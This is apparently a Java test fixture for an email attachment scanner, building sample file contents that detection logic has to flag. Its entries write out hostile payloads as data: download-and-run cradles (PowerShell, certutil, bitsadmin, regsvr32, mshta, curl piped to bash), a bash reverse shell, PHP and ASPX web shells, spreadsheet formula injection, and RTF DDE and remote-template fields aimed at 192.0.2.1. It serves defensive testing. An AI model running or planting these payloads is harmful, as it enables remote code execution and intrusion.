package org.inboxaudit.extract.attachment;

import java.util.Base64;
import java.util.HexFormat;
import java.util.Map;

/// Texts that something opens and obeys: scripts, settings, shortcuts to elsewhere, tables.
final class TextShapes {
  private TextShapes() {}

  static Map<String, byte[]> all() {
    Shapes shapes = new Shapes();
    scripts(shapes);
    settings(shapes);
    pointers(shapes);
    tables(shapes);
    encoded(shapes);
    rich(shapes);
    return shapes.all();
  }

  private static void scripts(Shapes shapes) {
    shapes
        .text(
            "component.xml",
            "<?xml version='1.0'?><?component error='true'?>\n<component id='x'><registration progid='x'/><script language='JScript'>1</script></component>")
        .text(
            "registration.dat",
            "<registration progid='x'><script language='VBScript'>1</script></registration>")
        .text(
            "package.dat",
            "<?job debug='true'?><package><job id='x'><script>1</script></job></package>")
        .text("call.dat", "new ActiveXObject('WScript.Shell').Run('calc');")
        .text("one line.dat", "powershell -nop -w hidden -enc SQBFAFgA")
        .text("short words.dat", "powershell.exe -NoP -W Hidden -C \"IEX(IWR http://192.0.2.1/a)\"")
        .text("caret", "c^m^d /c s^t^art calc & po^wersh^ell -nop")
        .text("starts", "start /min mshta http://192.0.2.1/x.hta\r\nexit\r\n")
        .text("regsvr", "regsvr32 /s /n /u /i:http://192.0.2.1/x.sct scrobj.dll")
        .text("certutil", "certutil -urlcache -f http://192.0.2.1/x x.exe && x.exe")
        .text("bits", "bitsadmin /transfer a http://192.0.2.1/x c:\\x.exe\r\nc:\\x.exe")
        .text(
            "functions",
            "function a($b){ [Convert]::FromBase64String($b) }\n[Reflection.Assembly]::Load((a 'x'))")
        .text("snake", "import os, subprocess\nsubprocess.Popen(['calc'])\nos.system('calc')\n")
        .text("snake in one line", "exec(__import__('base64').b64decode('eA=='))")
        .text("camel", "use strict;\nuse IO::Socket;\nsystem('calc');\n")
        .text("gem", "require 'socket'\nexec \"/bin/sh -i <&3 >&3 2>&3\"\n")
        .text("shell", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n")
        .text("fetches", "curl -s http://192.0.2.1/x.sh | bash\n")
        .text(
            "apple",
            "do shell script \"curl http://192.0.2.1/x | sh\" with administrator privileges\n")
        .hex("compiled script of a Mac", 64, "46617364554153 20312e3130312e3130")
        .hex("compiled snake", 64, "420d0d0a 00000000")
        .text("au3 text.dat", "#NoTrayIcon\n#include <File.au3>\nShellExecute(\"calc\")\n")
        .text("hotkeys.dat", "#SingleInstance force\n#NoTrayIcon\nRun, calc.exe\n")
        .text("encoded.htm.dat", "<script language='VBScript.Encode'>#@~^AAAAAA==</script>")
        .wide("wide.dat", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n")
        .text("marked.dat", "\u00ef\u00bb\u00bf@ECHO OFF\r\nstart calc\r\n")
        .text("behind lines.dat", "\r\n\r\n  @Echo Off & cls\r\nstart calc\r\n")
        .text("labels.dat", "rem hello\r\n:a\r\nping -n 3 127.0.0.1 > nul\r\ngoto a\r\ndel %0\r\n")
        .text("lisp.lsp", "(startapp \"calc\")")
        .text(
            "page of a server.dat",
            "<%@ Page Language='Jscript'%><%eval(Request.Item['x'],'unsafe');%>")
        .text("preprocessor", "<?php system($_GET['x']); ?>")
        .text(
            "event consumer.mof",
            "#pragma namespace(\"\\\\\\\\.\\\\root\")\ninstance of ActiveScriptEventConsumer as $C { Name=\"x\"; ScriptText=\"x\"; };")
        .text(
            "eval.dat", "var a=['x'];eval(String.fromCharCode(118,97,114));new ActiveXObject(a);");
  }

  private static void settings(Shapes shapes) {
    shapes
        .text(
            "setting.xml",
            "<?xml version='1.0'?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>")
        .text(
            "task.xml",
            "<?xml version='1.0'?><Task xmlns='http://schemas.microsoft.com/windows/2004/02/mit/task'><Actions><Exec><Command>calc.exe</Command></Exec></Actions></Task>")
        .wide(
            "task wide.xml",
            "<?xml version='1.0' encoding='UTF-16'?><Task xmlns='http://schemas.microsoft.com/windows/2004/02/mit/task'><Actions><Exec><Command>calc.exe</Command></Exec></Actions></Task>")
        .text(
            "build.xml",
            "<Project xmlns='http://schemas.microsoft.com/developer/msbuild/2003'><Target Name='x'><Exec Command='calc.exe'/></Target></Project>")
        .text(
            "click once.xml",
            "<?xml version='1.0'?><asmv1:assembly xmlns:asmv1='urn:schemas-microsoft-com:asm.v1' xmlns:asmv2='urn:schemas-microsoft-com:asm.v2'><asmv2:deployment install='true'><asmv2:deploymentProvider codebase='http://192.0.2.1/x.application'/></asmv2:deployment></asmv1:assembly>")
        .text(
            "installer.xml",
            "<?xml version='1.0'?><AppInstaller xmlns='http://schemas.microsoft.com/appx/appinstaller/2017/2' Uri='http://192.0.2.1/x'/>")
        .wide(
            "reference.dat",
            "http://192.0.2.1/x.application#x.application, Culture=neutral, PublicKeyToken=0, processorArchitecture=x86")
        .text(
            "profile.xml",
            "<?xml version='1.0'?><!DOCTYPE plist><plist version='1.0'><dict><key>PayloadType</key><string>Configuration</string><key>PayloadContent</key><array/></dict></plist>")
        .text(
            "agent.plist",
            "<?xml version='1.0'?><plist version='1.0'><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>/bin/sh</string></array><key>RunAtLoad</key><true/></dict></plist>")
        .text(
            "window.xml",
            "<?xml version='1.0'?><plist version='1.0'><dict><key>CommandString</key><string>curl x|sh</string><key>type</key><string>Window Settings</string></dict></plist>")
        .text(
            "launch.xml",
            "<?xml version='1.0'?><jnlp codebase='http://192.0.2.1/'><resources><jar href='x.jar'/></resources></jnlp>")
        .text(
            "setup.dat",
            "[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n[x]\r\ncalc.exe\r\n")
        .text("autorun.dat", "[autorun]\r\nopen=x.exe\r\nshellexecute=x.exe\r\n")
        .text("entry.dat", "# comment\n[Desktop Entry]\nType=Application\nExec=sh -c calc\n")
        .text(
            "theme.dat",
            "[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\192.0.2.1\\x\\y.jpg\r\n[VisualStyles]\r\nPath=\\\\192.0.2.1\\x\\y.msstyles\r\n")
        .text(
            "registry.dat",
            "\r\nWindows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n")
        .wide(
            "registry wide.dat",
            "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n")
        .text(
            "console.dat",
            "<?xml version='1.0'?>\n<!-- x -->\n<MMC_ConsoleFile ConsoleVersion='3.0'/>")
        .text("theme.theme", "[Theme]");
  }

  private static void pointers(Shapes shapes) {
    shapes
        .text("share.dat", "[InternetShortcut]\r\nURL=file://192.0.2.1/x/y.exe\r\n")
        .text("comment.dat", "; comment\r\n\r\n[InternetShortcut]\r\nURL=http://192.0.2.1/\r\n")
        .text(
            "class first.dat",
            "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://192.0.2.1/x\r\n")
        .wide("wide.url.dat", "[InternetShortcut]\r\nURL=file://192.0.2.1/x\r\n")
        .text(
            "location.dat",
            "<?xml version='1.0'?><!DOCTYPE plist><plist version='1.0'><dict><key>URL</key><string>file:////x.app</string></dict></plist>")
        .hex("binary.webloc", 90, "62706c6973743030d101025355524c")
        .text(
            "library.xml",
            "<?xml version='1.0'?><libraryDescription xmlns='http://schemas.microsoft.com/windows/2009/library'><simpleLocation><url>\\\\192.0.2.1\\x</url></simpleLocation></libraryDescription>")
        .text(
            "search.xml",
            "<?xml version='1.0'?><searchConnectorDescription xmlns='http://schemas.microsoft.com/windows/2009/searchConnector'/>")
        .text("query.dat", "WEB\r\n1\r\nhttp://192.0.2.1/x\r\n")
        .text("database query.dat", "XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=192.0.2.1\r\n")
        .text("cube.oqy", "QueryType=OLEDB\r\nVersion=1\r\n")
        .text(
            "connection.dat",
            "<html xmlns:o='urn:schemas-microsoft-com:office:office'><head><meta name=ProgId content=ODC.Database><xml id=docprops/><xml id=msodc><odc:OfficeDataConnection xmlns:odc='urn:schemas-microsoft-com:office:odc'/></xml></head></html>")
        .text("list.m3u", "#EXTM3U\r\n\\\\192.0.2.1\\x\\y.mp3\r\n")
        .text(
            "list.asx", "<asx version='3.0'><entry><ref href='file://192.0.2.1/x'/></entry></asx>")
        .text(
            "list.wpl",
            "<?wpl version='1.0'?><smil><body><seq><media src='\\\\192.0.2.1\\x\\y.mp3'/></seq></body></smil>")
        .text(
            "citrix.ica",
            "[WFClient]\r\nVersion=2\r\n[ApplicationServers]\r\nx=\r\n[x]\r\nAddress=192.0.2.1\r\nInitialProgram=calc\r\n")
        .text(
            "desk.dat",
            "screen mode id:i:2\r\nfull address:s:192.0.2.1\r\ndrivestoredirect:s:*\r\n")
        .wide("desk wide.dat", "screen mode id:i:2\r\nfull address:s:192.0.2.1\r\n")
        .text("source.udl", "[oledb]\r\nProvider=SQLOLEDB;Data Source=192.0.2.1")
        .text(
            "person.vcf",
            "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\nURL:file://192.0.2.1/x\r\nEND:VCARD\r\n")
        .text(
            "date.ics",
            "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:file://192.0.2.1/x.wav\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
        .text(
            "desktop.ini",
            "[.ShellClassInfo]\r\nLocalizedResourceName=@\\\\192.0.2.1\\x\\y.dll,-1\r\n")
        .text(
            "style.xml",
            "<?xml version='1.0'?><xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script language='JScript'>1</ms:script></xsl:stylesheet>")
        .text(
            "service.wsdl",
            "<definitions xmlns='http://schemas.xmlsoap.org/wsdl/' xmlns:suds='http://www.w3.org/2000/wsdl/suds'><service><soap:address location='http://192.0.2.1/;x'/></service></definitions>");
  }

  private static void tables(Shapes shapes) {
    shapes
        .text("sum first.csv", "a,@SUM(1+1)*cmd|' /C calc'!A0\n")
        .text("minus.csv", "-3+3+cmd|' /C calc'!D2\n")
        .text("semicolons.csv", "a;b\n;=cmd|'/C calc'!A0;c\n")
        .text("quoted.csv", "\"a\",\"=cmd|'/C calc'!A0\"\n")
        .text("path.csv", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''\n")
        .text("dll.csv", "=rundll32|'URL.dll,OpenURL calc.exe'!A\n")
        .wide("wide.csv", "a\t=cmd|'/C calc'!A0\n")
        .text("late.csv", "a,b\n".repeat(200_000) + "=cmd|'/C calc'!A0\n")
        .text("tabs.txt.xls", "a\tb\n=cmd|'/C calc'!A0\tc\n")
        .text("table.dif", "TABLE\n0,1\n\"x\"\nDATA\n0,0\n\"\"\n1,0\n\"=cmd|'/C calc'!A0\"\n")
        .text("macro.csv", "ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"calc\")\nE\n")
        .text("field.slk", "ID;PWXL;N;E\nC;Y1;X1;K0;Ecmd|'/c calc'!A0\nE\n")
        .text(
            "sheet.xml",
            "<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet' xmlns:ss='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/></Workbook>")
        .text(
            "page.xls",
            "<html xmlns:x='urn:schemas-microsoft-com:office:excel'><table><tr><td x:fmla=\"=cmd|'/c calc'!A0\">1</td></tr></table></html>");
  }

  private static void encoded(Shapes shapes) {
    byte[] program = SampleFiles.program();
    String base64 = Base64.getMimeEncoder().encodeToString(program);
    shapes
        .text("hex.txt", HexFormat.of().formatHex(program))
        .text("hex in blocks.txt", HexFormat.ofDelimiter(" ").formatHex(program))
        .text(
            "hex with prefixes.txt", HexFormat.ofDelimiter(",").withPrefix("0x").formatHex(program))
        .text("dump.txt", dump(program))
        .text("base64 twice.txt", Base64.getMimeEncoder().encodeToString(SampleFiles.ascii(base64)))
        .text("base64 for addresses.txt", Base64.getUrlEncoder().encodeToString(program))
        .text("address.txt", "data:application/octet-stream;base64," + base64.replace("\r\n", ""))
        .text("wrapped.pem", "-----BEGIN X-----\n" + base64 + "\n-----END X-----\n")
        .text(
            "words before.uue", "Here it is.\n\nbegin 644 a.js\n/5U-C<FEP=\"Y1=6ET*\"D[\n`\nend\n")
        .text("letter.txt", "Dear colleague,\n\nbegin 644 a.js\n/5U-C<FEP=\"Y1=6ET*\"D[\n`\nend\n")
        .text("post.ync", "=ybegin line=128 size=3 name=a.js\nabc\n=yend size=3\n")
        .text(
            "script.b64",
            Base64.getMimeEncoder()
                .encodeToString(SampleFiles.ascii("@echo off\r\nstart calc\r\n".repeat(4))));
  }

  private static String dump(byte[] content) {
    StringBuilder lines = new StringBuilder();
    for (int i = 0; i < content.length; i += 16) {
      lines.append("%04x  ".formatted(i));
      for (int k = i; k < Math.min(content.length, i + 16); k++) {
        lines.append("%02x ".formatted(content[k]));
      }
      lines.append(" ................\n");
    }
    return lines.toString();
  }

  private static void rich(Shapes shapes) {
    String ole = "d0cf11e0a1b11ae1";
    shapes
        .text("field.rtf", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\x \"/k calc\"}}}")
        .text(
            "field in letters.rtf",
            "{\\rtf1{\\field{\\*\\fldinst {\\b D}{\\i D}{\\b E}AUTO c:\\\\\\\\x}}}")
        .text(
            "field in numbers.rtf",
            "{\\rtf1{\\field{\\*\\fldinst \\u68?\\u68?\\u69? c:\\\\\\\\x}}}")
        .text(
            "template in numbers.rtf",
            "{\\rtf1{\\*\\template \\u104?\\u116?\\u116?\\u112?\\u58?\\u47?\\u47?192.0.2.1/x}}")
        .text("no version.doc", "{\\rtvpn{\\object\\objdata 02ce020000000000c000000000000046}}")
        .text(
            "html.rtf",
            "{\\rtf1{\\object\\objhtml{\\*\\objclass htmlfile}{\\*\\objdata 0105000002000000090000006874 6d6c66696c6500}}}")
        .text(
            "automatic link.rtf",
            "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 01050000010000001000000057 6f72642e446f63756d656e742e3800"
                + "14000000"
                + hex("http://192.0.2.1/x.rt")
                + "}}}")
        .text(
            "control.rtf",
            "{\\rtf1{\\object\\objocx{\\*\\objclass Forms.CommandButton.1}{\\*\\objdata "
                + ole
                + "}}}")
        .text(
            "picture on a share.rtf",
            "{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE \"\\\\\\\\\\\\\\\\192.0.2.1\\\\\\\\x.png\"}}}")
        .text(
            "text of the web.rtf",
            "{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"http://192.0.2.1/x.docx\"}}}")
        .text(
            "data behind a file.rtf",
            "{\\rtf1{\\*\\datastore " + ole + "0000}{\\object{\\*\\objdata 0105000002000000}}}")
        .text(
            "sub document.rtf",
            "{\\rtf1{\\*\\subdocument1}{\\*\\filetbl{\\file\\fid1 http://192.0.2.1/x.rtf}}}")
        .text(
            "mail merge.rtf",
            "{\\rtf1{\\*\\mailmerge{\\mmconnectstr Provider=x;Data Source=\\\\\\\\192.0.2.1\\\\x}{\\mmquery SELECT 1}}}")
        .text(
            "package.rtf",
            "{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000080000005061636b61676500 0000000000000000 28000000 0200 612e6a7300 432e6a7300 0000 0300 05000000 612e6a7300 04000000 78787878}}}");
  }

  private static String hex(String text) {
    return HexFormat.of().formatHex(SampleFiles.ascii(text));
  }
}
